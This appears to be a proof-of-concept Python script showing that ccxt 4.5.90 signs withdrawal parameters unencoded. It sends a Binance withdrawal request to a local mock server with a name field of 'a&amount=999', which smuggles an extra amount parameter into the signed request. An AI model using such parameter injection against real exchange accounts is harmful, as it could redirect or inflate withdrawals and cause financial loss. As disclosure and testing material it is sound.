"""ccxt 4.5.90 signs and sends the parameters of a withdrawal as they are: an ampersand begins another parameter, a
plus sign is a blank.

  bnconform serve --port 8080
  python injects_in_withdrawals.py http://127.0.0.1:8080

What arrives: name=a&amount=999
"""
import sys

import ccxt

client = ccxt.binance({
    "apiKey": "vmPUZE6mv9SD5VNHk4HlWFsOr6aKE2zvsw0MuIgwCIPy6utIco14y7Ju91duEh8A",
    "secret": "NhqPtmdSJYdKjVHjA7PZj4Mge3R5YNiP1e3UZjInClVN65XAbvqqM6A7H5fATj0j"})
client.urls["api"]["sapi"] = sys.argv[1] + "/sapi/v1"
client.sapi_post_capital_withdraw_apply({"coin": "USDT", "network": "ETH", "address": "0xA1",
                                         "name": "a&amount=999"})
